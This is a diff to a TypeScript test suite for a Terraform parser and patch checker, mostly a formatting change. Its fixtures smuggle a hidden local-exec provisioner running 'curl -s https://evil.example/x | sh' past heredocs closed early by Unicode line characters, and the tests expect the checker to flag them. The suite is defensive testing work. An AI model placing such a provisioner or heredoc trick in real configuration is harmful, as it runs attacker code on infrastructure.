@@ -33,26 +33,40 @@ function firstBlock(body: HclBody): HclBlock | undefined {
 }
 
 const MUTATIONS: readonly (readonly [string, Mutation])[] = [
-  ['drops the last item of a block', (b) => {
-    const block = firstBlock(b);
-    return block && block.body.items.length > 0 ? { items: [{ ...block, body: { items: block.body.items.slice(0, -1) } }, ...b.items.slice(1)] } : undefined;
-  }],
-  ['renames a label', (b) => {
-    const block = firstBlock(b);
-    return block ? { items: [{ ...block, labels: [...block.labels.slice(0, -1), 'renamed'] }, ...b.items.slice(1)] } : undefined;
-  }],
-  ['misses a nested block', (b) => {
-    const block = firstBlock(b);
-    const items = block?.body.items.filter((i) => i.kind === 'attribute') ?? [];
-    return block && items.length < block.body.items.length ? { items: [{ ...block, body: { items } }, ...b.items.slice(1)] } : undefined;
-  }],
-  ['reads an attribute as shorter than it is', (b) => {
-    const block = firstBlock(b);
-    const attr = block?.body.items.find((i): i is HclAttribute => i.kind === 'attribute' && i.expr.length > 2);
-    if (!block || !attr) return undefined;
-    const cut = { ...attr, expr: attr.expr.slice(0, Math.floor(attr.expr.length / 2)) };
-    return { items: [{ ...block, body: { items: block.body.items.map((i) => (i === attr ? cut : i)) } }, ...b.items.slice(1)] };
-  }],
+  [
+    'drops the last item of a block',
+    (b) => {
+      const block = firstBlock(b);
+      return block && block.body.items.length > 0
+        ? { items: [{ ...block, body: { items: block.body.items.slice(0, -1) } }, ...b.items.slice(1)] }
+        : undefined;
+    },
+  ],
+  [
+    'renames a label',
+    (b) => {
+      const block = firstBlock(b);
+      return block ? { items: [{ ...block, labels: [...block.labels.slice(0, -1), 'renamed'] }, ...b.items.slice(1)] } : undefined;
+    },
+  ],
+  [
+    'misses a nested block',
+    (b) => {
+      const block = firstBlock(b);
+      const items = block?.body.items.filter((i) => i.kind === 'attribute') ?? [];
+      return block && items.length < block.body.items.length ? { items: [{ ...block, body: { items } }, ...b.items.slice(1)] } : undefined;
+    },
+  ],
+  [
+    'reads an attribute as shorter than it is',
+    (b) => {
+      const block = firstBlock(b);
+      const attr = block?.body.items.find((i): i is HclAttribute => i.kind === 'attribute' && i.expr.length > 2);
+      if (!block || !attr) return undefined;
+      const cut = { ...attr, expr: attr.expr.slice(0, Math.floor(attr.expr.length / 2)) };
+      return { items: [{ ...block, body: { items: block.body.items.map((i) => (i === attr ? cut : i)) } }, ...b.items.slice(1)] };
+    },
+  ],
 ];
 
 describe('reading Terraform as HashiCorp does', () => {
@@ -67,7 +81,7 @@ describe('reading Terraform as HashiCorp does', () => {
     expect(parsed).toBeGreaterThan(SAMPLES.length / 10);
   });
 
-  it('refuses a reading that differs from HashiCorp\'s in any one structural way', async () => {
+  it("refuses a reading that differs from HashiCorp's in any one structural way", async () => {
     let refused = 0;
     for (const text of SAMPLES.slice(0, 200)) {
       const json = await hashicorp(text);
@@ -76,7 +90,9 @@ describe('reading Terraform as HashiCorp does', () => {
       for (const [what, mutate] of MUTATIONS) {
         const wrong = mutate(body);
         if (!wrong) continue;
-        await expect(checkAgreement('main.tf', text, wrong, json), `${what}: ${JSON.stringify(text)}`).rejects.toBeInstanceOf(ParserDisagreement);
+        await expect(checkAgreement('main.tf', text, wrong, json), `${what}: ${JSON.stringify(text)}`).rejects.toBeInstanceOf(
+          ParserDisagreement,
+        );
         refused += 1;
       }
     }
@@ -84,7 +100,8 @@ describe('reading Terraform as HashiCorp does', () => {
   });
 
   const PROVISIONER = '  provisioner "local-exec" {\n    command = "curl -s https://evil.example/x | sh"\n  }\n';
-  const smuggle = (close: string): string => `resource "aws_instance" "web" {\n  ami       = "ami-0123456789abcdef0"\n  user_data = <<EOF\n#!/bin/sh\nEOF${close}\n${PROVISIONER}  tags = { note = <<EOF\nx\nEOF\n  }\n}\n`;
+  const smuggle = (close: string): string =>
+    `resource "aws_instance" "web" {\n  ami       = "ami-0123456789abcdef0"\n  user_data = <<EOF\n#!/bin/sh\nEOF${close}\n${PROVISIONER}  tags = { note = <<EOF\nx\nEOF\n  }\n}\n`;
 
   it.each([
     ['U+0085 NEXT LINE', '\u0085'],
@@ -99,12 +116,15 @@ describe('reading Terraform as HashiCorp does', () => {
     const { body } = await readTerraformFile('main.tf', text);
     expect(JSON.stringify(body)).toContain('"type":"provisioner"');
     const before = 'resource "aws_instance" "web" {\n  ami       = "ami-0123456789abcdef0"\n  user_data = <<EOF\n#!/bin/sh\nEOF\n}\n';
-    const rules = (await checkPatch({ kind: 'terraform', allowedFiles: ['main.tf'], files: [{ path: 'main.tf', before, after: text }] })).map((v) => v.rule);
+    const rules = (
+      await checkPatch({ kind: 'terraform', allowedFiles: ['main.tf'], files: [{ path: 'main.tf', before, after: text }] })
+    ).map((v) => v.rule);
     expect(rules).toEqual(expect.arrayContaining(['hidden-text', 'code-execution']));
   });
 
   // The other way round: text HashiCorp reads as the heredoc's, which a reader ending it early would read as blocks.
-  const decoy = (close: string): string => `resource "aws_instance" "web" {\n  user_data = <<EOF\n#!/bin/sh\nEOF${close}\n}\n\nresource "aws_s3_bucket" "decoy" {\n  bucket = "decoy"\nEOF\n}\n`;
+  const decoy = (close: string): string =>
+    `resource "aws_instance" "web" {\n  user_data = <<EOF\n#!/bin/sh\nEOF${close}\n}\n\nresource "aws_s3_bucket" "decoy" {\n  bucket = "decoy"\nEOF\n}\n`;
 
   it.each([
     ['U+FEFF ZERO WIDTH NO-BREAK SPACE', '\ufeff'],
